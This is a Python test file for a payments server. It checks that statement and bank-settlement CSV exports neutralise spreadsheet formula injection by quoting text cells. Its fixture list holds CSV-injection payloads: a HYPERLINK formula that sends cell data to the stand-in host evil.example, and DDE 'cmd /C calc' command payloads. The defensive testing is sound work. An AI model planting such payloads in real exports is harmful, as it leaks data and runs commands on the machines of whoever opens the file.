"""CSV a person opens in a spreadsheet never runs a formula (SPEC §4): every text cell of the
statement export and of the bank file that begins with `=`, `+`, `-`, `@`, TAB or CR is prefixed with
a single quote; amounts stay plain numbers, a minus sign included."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from conftest import RunningServer

from clients.admin_cli import BANK_CSV_COLUMNS, write_bank_csv
from cobalt.payments.v1 import payments_pb2 as pb
from server.domain.csv_cells import FORMULA_LEADS, text_cell

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|'/C calc'!A0",
            "@SUM(1,1)"]



def runs_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_LEADS)


@pytest.mark.parametrize("lead", list(FORMULA_LEADS))
def test_each_formula_lead_is_neutralised(lead: str) -> None:
    assert text_cell(f"{lead}1+1") == f"'{lead}1+1"
    assert not runs_as_formula(text_cell(f"{lead}1+1"))


@pytest.mark.parametrize("value", ["Entry", "a=b", "1+1", "", "'=already quoted", " =spaced"])
def test_other_text_is_left_alone(value: str) -> None:
    assert text_cell(value) == value


def test_statement_export_neutralises_text_and_keeps_numbers(server: RunningServer, admin, app) -> None:  # noqa: ANN001
    admin.upsert_organisation(7, FORMULAS[0])
    admin.call("UpsertMember", pb.UpsertMemberRequest(idempotency_key="name-2", member_id=2, name=FORMULAS[3]))
    admin.adjust(10_000, FORMULAS[1], member_id=1)
    for i, text in enumerate(FORMULAS):
        app.pay(1, 1_000 + i, organisation_id=7, description=text)
    app.transfer(2, 250, from_member_id=1, description="-12.50")
    exported = b"".join(c.data for c in app.stream("ExportStatement", pb.ExportStatementRequest(
        account=pb.AccountRef(member_id=1)), timeout_s=10)).decode()
    header, *rows = list(csv.reader(io.StringIO(exported)))
    assert header == ["Date", "Counterparty", "Reference", "Type", "Description", "Amount", "Balance"]
    assert len(rows) == 1 + len(FORMULAS) + 1
    for row in rows:
        text, (amount, balance) = row[:5], row[5:]
        assert not any(runs_as_formula(cell) for cell in text), row
        Decimal(amount), Decimal(balance)  # numbers a spreadsheet adds up  # noqa: B018
    descriptions = [row[4] for row in rows]
    assert "'-12.50" in descriptions  # text that looks like a number is still text
    assert {"'" + f for f in FORMULAS} <= set(descriptions)
    assert any(row[1].startswith("'=HYPERLINK") for row in rows)  # the organisation's name
    assert any(row[1].startswith("'@SUM") for row in rows)  # the member's name
    amounts = [Decimal(row[5]) for row in rows]
    assert Decimal("-10.00") in amounts and Decimal("-2.50") in amounts  # negative amounts stay numbers
    assert sum(amounts) == Decimal(app.balance_cents(member_id=1)) / 100


def test_bank_file_neutralises_text_and_keeps_numbers(server: RunningServer, admin, app, tmp_path) -> None:  # noqa: ANN001
    admin.upsert_organisation(7, FORMULAS[0], bsb="123-456", account_number="12345678")
    admin.upsert_organisation(8, "@SUM(1,1)", bsb="654-321", account_number="87654321")
    admin.adjust(50_000, "opening", organisation_id=7)
    admin.adjust(30_000, "opening", organisation_id=8)
    res = admin.settle([7, 8])
    assert len(res.rows) == 2
    path = tmp_path / "bank.csv"
    write_bank_csv(res, str(path))
    header, *rows = list(csv.reader(io.StringIO(path.read_text())))
    assert header == BANK_CSV_COLUMNS
    for row in rows:
        assert not any(runs_as_formula(cell) for cell in row), row
    names = sorted(row[2] for row in rows)
    assert names == sorted(["'" + FORMULAS[0], "'@SUM(1,1)"])
    assert sum(Decimal(row[3]) for row in rows) == Decimal(res.total_net_cents) / 100
    assert sorted(int(row[5]) for row in rows) == [7, 8]


def test_bank_file_text_from_any_source_is_neutralised(tmp_path) -> None:  # noqa: ANN001
    """Whatever the response holds (the client does not trust the server's text either)."""
    res = pb.SettleResponse(batch_id="-batch", rows=[pb.SettlementRow(
        organisation_id=9, name="\t=1+1", bsb="+123", account_number="-99", reference="@ref", net_cents=-1_250)])
    path = tmp_path / "bank.csv"
    write_bank_csv(res, str(path))
    [row] = list(csv.reader(io.StringIO(path.read_text())))[1:]
    assert row == ["'+123", "'-99", "'\t=1+1", "-12.50", "'@ref", "9", "'-batch"]
